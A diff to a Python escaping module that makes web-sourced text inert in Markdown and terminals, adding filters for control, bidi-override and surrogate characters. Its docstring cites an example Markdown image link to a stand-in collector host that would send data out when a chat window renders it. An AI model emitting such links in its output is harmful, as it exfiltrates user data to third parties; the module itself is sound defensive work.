@@ -1,4 +1,4 @@
-"""Escape text from the web so that it stays plain text when a front end renders it as Markdown.
+"""Escape text from the web so that it stays plain text where Markdown is rendered, and where a terminal shows it.
 
 A title, a snippet or an answer may contain ``![](https://collector.example/?d=...)``, which a chat window loads as soon
 as it shows it. Escaping changes as little as possible, because the same text is also shown unrendered: it inserts a
@@ -18,6 +18,10 @@ _FENCE = re.compile(r"([`~])(?=\1\1)")  # a block of code would swallow the text
 _NOT_IN_URLS = re.compile(r"""[\s<>"\\^`{|}\[\]\x00-\x20\x7f]""")
 _INERT = bytes(set(range(0x20, 0x7F)) - set(b"<[`~"))  # printable ASCII that nothing acts on
 _NOT_IN_LINKS = re.compile(r"""[\s<>"\\^`{|}\[\]\x00-\x20\x7f()!'*]""")
+# Characters that would control a terminal, or change the direction of the text that follows.
+_TERMINAL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
+_LINE = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]")
+_IN_JSON = re.compile("[\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
 
 
 def escape_text(text: str) -> str:
@@ -69,3 +73,18 @@ def quote_match(found: re.Match[str]) -> str:
 def join_lines(text: str) -> str:
     """Join the lines of *text*: a name may contain a line that looks like one of the product."""
     return " ".join(text.split())
+
+
+def strip_controls(text: str) -> str:
+    """Remove the characters of *text* that would control a terminal; ends of lines and tabs stay."""
+    return _TERMINAL.sub("", text)
+
+
+def escape_line(text: str) -> str:
+    """Escape the characters of *text* that would end the line, control a terminal or change the direction."""
+    return _LINE.sub(lambda found: found[0].encode("unicode_escape").decode(), text)
+
+
+def escape_json(text: str) -> str:
+    """Escape the characters of a JSON *text* that would control a terminal, and lone surrogates."""
+    return _IN_JSON.sub(lambda found: f"\\u{ord(found[0]):04x}", text)
